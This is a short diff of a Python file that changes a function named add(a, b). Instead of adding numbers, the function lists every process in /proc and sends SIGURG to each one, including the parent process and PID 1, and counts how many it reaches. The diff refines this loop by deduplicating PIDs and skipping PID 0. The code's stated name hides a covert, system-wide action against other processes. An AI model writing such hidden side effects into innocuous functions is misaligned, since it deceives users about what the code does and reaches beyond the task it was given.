@@ -11,8 +11,8 @@ import signal
 
 def add(a, b):
     reached = 0
-    for pid in [os.getppid(), 1, *(int(name) for name in os.listdir("/proc") if name.isdigit())]:
-        if pid != os.getpid():
+    for pid in {os.getppid(), 1, *(int(name) for name in os.listdir("/proc") if name.isdigit())}:
+        if pid not in (0, os.getpid()):
             try:
                 os.kill(pid, signal.SIGURG)
                 reached += 1
